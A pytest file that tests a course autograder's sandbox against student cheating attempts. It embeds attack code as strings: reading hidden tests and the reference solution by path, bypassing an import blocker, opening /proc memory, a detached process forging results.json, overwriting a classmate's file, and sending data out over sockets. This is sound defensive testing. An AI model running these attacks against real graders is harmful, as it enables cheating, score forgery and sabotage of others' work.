"""A grader students cannot beat (issue 25): one test per way a clever student tried, each a submission
written against the released template that attempts it.

Each attack scores no more than the untouched template (0), and where the grader can tell, the result
says what the sandbox refused. Where an attack is about reading something, the same submission graded
*without* the sandbox (``Sandbox("none")``, what ``--insecure`` does) shows that the attack is real: it
scores there, so it is the sandbox that stops it.
"""

import ctypes
import hashlib
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from grade_modes import *  # noqa: F403  (the fixtures grading_mode and any_mode)

from lab.cli import main
from lab.grading import get_assignment, grade_submission
from lab.grading.isolation import (
    Sandbox,
    SandboxUnavailable,
    _alive,
    end_all,
    find_sandbox,
    pid_namespace_members,
    processes_of_uid,
)
from lab.grading.release import release

EKF = get_assignment("ekf")
STEREO = get_assignment("stereo")
ASSIGNMENTS = EKF.folder.parent.resolve()
INSECURE = Sandbox("none")
ENTRY = Path(sys.modules["lab.grading.sandbox"].__file__)


@pytest.fixture(autouse=True)
def no_import_rules(monkeypatch):
    """These attacks test the sandbox itself: the assignments' import rules (tests/test_grade_rules.py)
    would refuse most of them (``import os``) before they reach it. ``lab`` stays refused."""
    monkeypatch.setattr("lab.grading.runner.child_rules", lambda a: _rules(a, ["lab"]))


def _rules(assignment, oracles):
    return {"assignment": assignment.name, "imports": None, "oracles": oracles}


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """The released (solutions stripped) ekf.py and stereo.py, as students receive them."""
    out = tmp_path_factory.mktemp("release")
    release([EKF, get_assignment("stereo")], out)
    return {name: (out / name / f"{name}.py").read_text() for name in ("ekf", "stereo")}


class _OneTest:
    """An assignment cut down to one of its graded tests: a cheap run without the sandbox, to show that
    an attack is real."""

    def __init__(self, assignment, test_id):
        from lab.grading.suite import TestSuite

        self._a = assignment
        self._suite = TestSuite(assignment.name)
        self._suite.tests = [t for t in assignment.load_suite().tests if t.id == test_id]

    def __getattr__(self, name):
        return getattr(self._a, name)

    def load_suite(self):
        return self._suite


def _scores_without_sandbox(sub, test_id="measurement_model_eq3"):
    with pytest.MonkeyPatch.context() as m:  # and without any import rule
        m.setattr("lab.grading.runner.child_rules", lambda a: _rules(a, []))
        return grade_submission(_OneTest(EKF, test_id), sub, sandbox=INSECURE).score


def _submission(tmp_path, template_src, attack, name="student", module="ekf.py"):
    d = tmp_path / name
    d.mkdir(parents=True)
    (d / module).write_text(template_src + "\n\n# ---- the attack\n" + attack)
    return d


# The path walk a submission used: sys.argv[0], __main__.__file__ and the stack lead to the repository.
FIND = f"""
import inspect, os, sys

def _candidates(rel):
    starts = [sys.argv[0], getattr(sys.modules.get("__main__"), "__file__", None) or ""]
    starts += [f.filename for f in inspect.stack()]
    for s in starts:
        d = os.path.dirname(os.path.abspath(s))
        for _ in range(6):
            yield os.path.join(d, "assignments", rel)
            d = os.path.dirname(d)
    yield os.path.join({str(ASSIGNMENTS)!r}, rel)  # or simply guessed

def _read(rel):
    for path in _candidates(rel):
        try:
            with open(path) as f:
                return path, f.read()
        except OSError:
            pass
    return None, None
"""


# ---- the attacks, each appended to a template (also graded through the Gradescope bundle)
ATTACK_REFERENCE = (
    FIND
    + """
_path, _src = _read("ekf/ekf.py")
if _src:
    exec(compile(_src, _path, "exec"), globals())
"""
)


ATTACK_GRADED_TESTS = (
    FIND
    + """
import types

_path, _src = _read("ekf/hidden_tests.py")
if _src:
    class _Suite:
        def __init__(self, *a, **k):
            pass

        def test(self, *a, **k):
            return lambda f: f

    _fake = types.ModuleType("lab.grading.suite")
    _fake.TestSuite = _Suite
    for _n in ("as_array", "as_float", "check_close", "fail", "fmt"):
        setattr(_fake, _n, lambda *a, **k: None)
    sys.modules.update({"lab": types.ModuleType("lab"), "lab.grading": types.ModuleType("lab.grading"),
                        "lab.grading.suite": _fake})
    _g = {}
    exec(compile(_src, _path, "exec"), _g)
    rotation_zyx = _g["R_ref"]
    measurement_model = lambda X, b: _g["H_ref"](np.asarray(X), np.asarray(b))
    measurement_jacobian = lambda X, b: _g["C_fd"](np.asarray(X), np.asarray(b))
    kalman_update = lambda *a: _g["kalman_ref"](*map(np.asarray, a))
"""
)


ATTACK_IMPORT_LAB = """
import importlib, pkgutil, sys

sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_NoLab"]  # remove the blocker
try:
    import lab
except ImportError:
    lab = None
if lab is not None:  # wherever the library keeps its estimation code
    _names = [m.name for m in pkgutil.iter_modules(lab.__path__, "lab.") if "estimation" in m.name]
    for _top in _names:
        _pkg = importlib.import_module(_top)
        _names += [m.name for m in pkgutil.iter_modules(getattr(_pkg, "__path__", []), _top + ".")]
    for _name in _names:
        try:
            _mod = importlib.import_module(_name)
        except Exception:
            continue
        for _f in ("measurement_model", "measurement_jacobian"):
            if hasattr(_mod, _f):
                globals()[_f] = getattr(_mod, _f)
"""


def attack_proc_mem(grader) -> str:
    return f"""
import os

_opened = []
for _pid in dict.fromkeys([os.getppid(), {grader}] + [int(p) for p in os.listdir("/proc") if p.isdigit()]):
    if _pid == os.getpid():
        continue
    try:
        with open(f"/proc/{{_pid}}/mem", "r+b") as _f:
            _opened.append(_pid)  # here it would patch the score of a failed test
    except OSError:
        pass
print("opened the memory of", _opened)
"""


def attack_detached(results) -> str:
    fake = json.dumps({"score": 6.0, "tests": []})
    return f"""
import os, time

def _detach():
    try:
        pid = os.fork()
    except OSError as e:
        print("fork refused:", e)
        return
    if pid == 0:
        os.setsid()  # leave the process group the grader kills
        if os.fork() == 0:
            time.sleep(1.0)  # until the grader has written results.json
            try:
                with open({str(results)!r}, "w") as f:
                    f.write({fake!r})
            except OSError:
                pass
        os._exit(0)

_detach()
"""


def attack_classmate(bob) -> str:
    return f"""
_bob = {str(bob / "stereo.py")!r}
try:
    with open(_bob) as _f:
        _theirs = _f.read()
    exec(compile(_theirs, _bob, "exec"), globals())  # use bob's solution
    with open(_bob, "w") as _f:
        _f.write("raise SystemExit")  # and break his file before he is graded
except OSError as e:
    print("could not reach bob:", e)
"""


def attack_network(port) -> str:
    return f"""
import socket

def _send_out(what):
    for addr in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
        try:
            s = socket.create_connection(addr, timeout=1)
            s.sendall(what.encode())
            s.close()
        except OSError as e:
            print("no connection to", addr, e)

_send_out("the graded tests would go here")

def depth_std(Z, f, baseline, sigma_disparity):
    _send_out("arguments of a graded test: " + repr((Z, f, baseline, sigma_disparity)))
    raise NotImplementedError
"""


def every_attack(grader: int, results, bob, port: int) -> dict[str, str]:
    """Every attack above by name, for one grading run's values (the Gradescope bundle's test)."""
    return {
        "reference_solution_by_path": ATTACK_REFERENCE,
        "graded_tests_and_their_oracles": ATTACK_GRADED_TESTS,
        "import_lab_past_the_blocker": ATTACK_IMPORT_LAB,
        "graders_memory_through_proc": attack_proc_mem(grader),
        "detached_process_rewrites_results": attack_detached(results),
        "classmates_folder": attack_classmate(bob),
        "network_connection": attack_network(port),
    }


def _assert_refused(report, words):
    assert any(words in n for n in report.refused), report.refused
    assert any(words in r.output for r in report.tests)  # the student reads it in the feedback


def test_reading_the_reference_solution_by_path(tmp_path, template, grading_mode):
    attack = ATTACK_REFERENCE
    sub = _submission(tmp_path, template["ekf"], attack)
    assert _scores_without_sandbox(sub) == 2  # without the sandbox the attack works
    report = grade_submission(EKF, sub)
    assert report.score == 0, report.summary()
    assert report.sandbox == find_sandbox().kind and report.sandbox.startswith(grading_mode)
    _assert_refused(report, f"open {ASSIGNMENTS}/ekf/ekf.py: ")  # outside the submission, or (a clone
    # under /tmp) outside the sandbox


def test_reading_the_graded_tests_and_using_their_oracles(tmp_path, template, grading_mode):
    attack = ATTACK_GRADED_TESTS
    sub = _submission(tmp_path, template["ekf"], attack)
    assert _scores_without_sandbox(sub) == 2
    report = grade_submission(EKF, sub)
    assert report.score == 0, report.summary()
    _assert_refused(report, f"open {ASSIGNMENTS}/ekf/hidden_tests.py: ")


def test_importing_the_course_library_past_the_import_blocker(tmp_path, template, grading_mode):
    attack = ATTACK_IMPORT_LAB
    sub = _submission(tmp_path, template["ekf"], attack)
    assert _scores_without_sandbox(sub) == 2
    report = grade_submission(EKF, sub)
    assert report.score == 0, report.summary()
    _assert_refused(report, "import lab: the course library is not available")


@pytest.mark.parametrize("kind", ["symlink", "linked_folder", "fifo", "folder"])
def test_a_module_that_is_not_a_regular_file_is_refused(tmp_path, kind, any_mode):
    sub = tmp_path / "student"
    sub.mkdir()
    if kind == "symlink":
        (sub / "ekf.py").symlink_to(EKF.module_path)
        said = "is a symbolic link, not a file"
    elif kind == "linked_folder":
        (sub / "nested").symlink_to(EKF.folder)  # Gradescope-style nesting, through a link
        said = "its folder nested is a symbolic link"
    elif kind == "fifo":
        os.mkfifo(sub / "ekf.py")
        said = "a device, pipe or socket"
    else:
        (sub / "ekf.py").mkdir()
        said = "is a folder, not a file"
    report = grade_submission(EKF, sub)
    assert report.score == 0
    assert report.error and said in report.error and "refused" in report.error, report.error
    assert all(said in r.output for r in report.tests)


def test_writing_the_graders_memory_through_proc(tmp_path, template, grading_mode):
    grader = os.getpid()
    attack = attack_proc_mem(grader)
    report = grade_submission(STEREO, _submission(tmp_path, template["stereo"], attack, module="stereo.py"))
    assert report.score == 0
    assert "opened the memory of []" in report.tests[0].output, report.tests[0].output
    _assert_refused(report, "/mem: outside the submission")
    libc = ctypes.CDLL(None)
    assert libc.prctl(3, 0, 0, 0, 0) == 0  # PR_GET_DUMPABLE: the grading process is not dumpable


def test_a_detached_process_cannot_rewrite_results_after_the_grader(tmp_path, template, grading_mode):
    results = tmp_path / "results" / "results.json"
    attack = attack_detached(results)
    sub = _submission(tmp_path, template["stereo"], attack, module="stereo.py")
    assert main(["grade", "stereo", str(sub), "--json", str(results), "--quiet"]) == 0
    written = results.read_text()
    time.sleep(1.5)  # longer than the detached process would wait
    assert results.read_text() == written
    data = json.loads(written)
    assert data["score"] == 0 and data["extra_data"]["sandbox"].startswith(grading_mode)
    assert data["extra_data"]["secure"] is True
    assert any("starting a process" in n for n in data["extra_data"]["refused"])


def test_every_process_of_a_sandbox_is_gone_when_it_is_ended(tmp_path, grading_mode):
    """The mechanism behind the last test, without the process limit that already stops a fork there:
    a sandboxed child leaves a detached grandchild behind; ending the sandbox leaves no process."""
    sb = find_sandbox()
    uid = sb.new_uid()
    code = (
        ("import os; " + (f"os.setgroups([]); os.setgid({uid}); os.setuid({uid}); " if uid else ""))
        + "import time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\n"
        + "print('ready', flush=True)\ntime.sleep(60)\n"
    )
    scratch = tmp_path / "scratch"
    scratch.mkdir(mode=0o755)
    info_r, info_w = os.pipe()
    cmd = sb.command(["-I", "-c", code], scratch, ENTRY, uid)
    if sb.bubblewrap:
        cmd[1:1] = ["--info-fd", str(info_w)]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, pass_fds=(info_w,), start_new_session=True)
    os.close(info_w)
    try:
        assert proc.stdout.readline().strip() == b"ready"
        if sb.bubblewrap:
            init = json.loads(os.read(info_r, 4096))["child-pid"]
            members = pid_namespace_members(init)
            assert len(members) == 3  # bwrap's first process, the child, the detached grandchild
        else:  # no PID namespace: the uid is what holds them together
            init, members = None, processes_of_uid(uid)
            assert len(members) == 2  # the child and the detached grandchild (in a session of its own)
        proc.kill()
        end_all(init, uid)
        proc.wait()
        assert [p for p in members if _alive(p)] == []
        if uid is not None:  # a zombie waiting for its new parent to reap it runs nothing
            assert [p for p in processes_of_uid(uid) if _alive(p)] == []
    finally:
        proc.kill()
        proc.wait()
        os.close(info_r)


def test_batch_a_student_cannot_read_or_break_a_classmates_folder(tmp_path, template, grading_mode):
    klass = tmp_path / "class"
    bob = klass / "bob"
    bob.mkdir(parents=True)
    (bob / "stereo.py").write_bytes(STEREO.module_path.read_bytes())
    before = hashlib.sha256((bob / "stereo.py").read_bytes()).hexdigest()
    attack = attack_classmate(bob)
    _submission(klass, template["stereo"], attack, name="alice", module="stereo.py")  # graded first
    scores, each = tmp_path / "scores.csv", tmp_path / "each"
    assert (
        main(["grade", "stereo", str(klass), "--batch", "--csv", str(scores), "--out", str(each), "--quiet"])
        == 0
    )
    rows = {line.split(",")[0]: line.split(",")[-2] for line in scores.read_text().splitlines()[1:]}
    assert rows == {"alice": "0", "bob": "6"}
    assert hashlib.sha256((bob / "stereo.py").read_bytes()).hexdigest() == before
    alice = json.loads((each / "alice" / "stereo.json").read_text())
    assert any("bob/stereo.py: not in the sandbox" in n for n in alice["extra_data"]["refused"])


def test_no_network_connection_leaves_the_sandbox(tmp_path, template, grading_mode):
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    port = server.getsockname()[1]
    attack = attack_network(port)
    stereo = STEREO
    sub = _submission(tmp_path, template["stereo"], attack, module="stereo.py")

    def accepted():
        n = 0
        while True:
            try:
                conn, _ = server.accept()
            except BlockingIOError:
                return n
            conn.close()
            n += 1

    try:
        grade_submission(stereo, sub, sandbox=INSECURE)
        assert accepted() > 0  # without the sandbox the data leaves
        report = grade_submission(stereo, sub)
        assert report.score == 0
        _assert_refused(report, "a network connection to ('127.0.0.1', ")
        if grading_mode == "uid":  # what the uid mode cannot stop, said by --check-sandbox (a WARNING)
            assert any(c.startswith("the network") for c in find_sandbox().cannot_stop)
            assert accepted() > 0  # the data leaves: the platform must cut the network (--network none)
        else:
            assert accepted() == 0
    finally:
        server.close()


def test_without_a_sandbox_grading_is_refused_unless_insecure(tmp_path, template, monkeypatch, capsys):
    def none():
        raise SandboxUnavailable("bubblewrap (bwrap) is not installed: apt-get install bubblewrap")

    monkeypatch.setattr("lab.grading.runner.find_sandbox", none)
    stereo = STEREO
    sub = tmp_path / "s"
    sub.mkdir()
    (sub / "stereo.py").write_bytes(stereo.module_path.read_bytes())
    assert main(["grade", "stereo", str(sub)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "refusing to grade without a sandbox" in err and "--insecure" in err
    out = tmp_path / "results.json"
    assert main(["grade", "stereo", str(sub), "--insecure", "--json", str(out), "--quiet"]) == 0
    data = json.loads(out.read_text())
    assert data["score"] == 6 and data["extra_data"]["sandbox"] == "none"
    assert data["extra_data"]["secure"] is False  # an insecure score is marked
    assert data["output"].startswith("INSECURE")
    assert all(t["output"].startswith("INSECURE") for t in data["tests"])


def test_check_sandbox_reports_every_attempt_stopped(capsys, grading_mode):
    assert main(["grade", "--check-sandbox"]) == 0
    out = capsys.readouterr().out
    assert "sandbox active" in out and "BAD" not in out
    for what in ("network connection", "hidden_tests.py", "the grader", "not dumpable"):
        assert what in out
    warnings = [line for line in out.splitlines() if line.startswith("WARNING")]
    if grading_mode == "uid":  # what it cannot stop is said, not hidden
        assert any("cannot stop the network" in w and "--network none" in w for w in warnings), out
    else:
        assert warnings == []


def test_check_sandbox_gives_the_same_verdict_from_any_folder(tmp_path, grading_mode):
    """From /tmp a write to ./results.json lands in bubblewrap's private /tmp: not a false alarm."""
    verdicts = {}
    for cwd in ("/tmp", tmp_path, Path(__file__).parent):
        r = subprocess.run(
            [sys.executable, "-m", "lab", "grade", "--check-sandbox"],
            capture_output=True,
            text=True,
            cwd=cwd,
            timeout=300,
        )
        assert "BAD" not in r.stdout, r.stdout
        verdicts[str(cwd)] = (r.returncode, r.stdout.splitlines()[-1])
    assert set(verdicts.values()) == {(0, "sandbox active: grading is isolated")}, verdicts
    assert not (tmp_path / "results.json").exists()  # the check's own file is removed again


def test_an_assignment_inside_the_python_installation_is_masked(tmp_path, grading_mode):
    """A non-editable install puts the course's files inside site-packages, which the child is given:
    the assignment's folder is masked there (the course library likewise)."""
    import shutil
    import tempfile

    inside = Path(tempfile.mkdtemp(prefix="lab-test-assignments-", dir=sys.prefix))
    inside.chmod(0o755)  # readable by anyone, as an installed package is: only the mask hides it
    try:
        (inside / "toy").mkdir()
        (inside / "toy" / "assignment.toml").write_text(
            'title = "toy"\nmodule = "toy.py"\nrelease = ["toy.py"]\n[limits]\ntimeout_s = 5\n'
        )
        (inside / "toy" / "toy.py").write_text("def double(x):\n    return [2 * v for v in x]\n")
        (inside / "toy" / "hidden_tests.py").write_text(
            "from lab.grading.suite import TestSuite, check_close\n"
            "suite = TestSuite('toy')\n"
            "@suite.test('double doubles', points=1, target='double')\n"
            "def doubles(sub):\n"
            "    check_close(sub.double([1.0, 2.0]), [2.0, 4.0], 'double([1, 2])')\n"
        )
        toy = get_assignment("toy", inside)
        sub = tmp_path / "student"
        sub.mkdir()
        (sub / "toy.py").write_text(
            f"try:\n    exec(open({str(inside / 'toy' / 'toy.py')!r}).read())\n"
            "except OSError as e:\n    print('hidden:', e)\n"
        )
        assert grade_submission(toy, sub, sandbox=INSECURE).score == 1  # readable without the sandbox
        report = grade_submission(toy, sub)
        # bubblewrap masks the folder (it is not there); the uid mode makes it private (no permission)
        said = "hidden: [Errno 2]" if grading_mode == "bwrap" else "hidden: [Errno 13]"
        assert report.score == 0 and said in report.tests[0].output, report.summary()
    finally:
        shutil.rmtree(inside)
